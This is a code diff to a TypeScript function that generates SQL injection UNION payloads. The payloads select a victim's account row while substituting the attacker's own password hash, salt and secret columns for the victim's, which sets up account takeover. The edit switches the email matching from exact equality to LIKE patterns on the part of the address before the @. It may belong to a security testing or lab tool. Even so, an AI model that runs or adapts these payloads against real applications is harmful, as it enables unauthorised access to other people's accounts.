@@ -108,12 +108,14 @@ export function unionPayloads(
   const isCredential = (column: string) => /pass|hash|secret|salt|digest|pw/i.test(column);
   const expression = (column: string) =>
     isCredential(column)
-      ? `(select a.${quoteIdentifier(column)} from ${table} a where lower(a.${quoteIdentifier(emailColumn(victimRow, victim.email))}::text)=$e$${attacker.email}$e$)`
+      ? `(select a.${quoteIdentifier(column)} from ${table} a where lower(a.${quoteIdentifier(emailColumn(victimRow, victim.email))}::text) like ${beginning(attacker)})`
       : `v.${quoteIdentifier(column)}`;
+  // Without the @: a pattern that allows one of them has to see its own only.
+  const beginning = ({ email }: { email: string }) => `$e$${email.slice(0, email.indexOf('@'))}%$e$`;
   const lists = [columns.map((column) => column.name), ...selected];
   return lists.map(
     (list) =>
-      `x' UNION SELECT ${list.map(expression).join(',')} FROM ${table} v WHERE lower(v.${quoteIdentifier(emailColumn(victimRow, victim.email))}::text)=$e$${victim.email}$e$ --`,
+      `x' UNION SELECT ${list.map(expression).join(',')} FROM ${table} v WHERE lower(v.${quoteIdentifier(emailColumn(victimRow, victim.email))}::text) like ${beginning(victim)} --`,
   );
 }
 
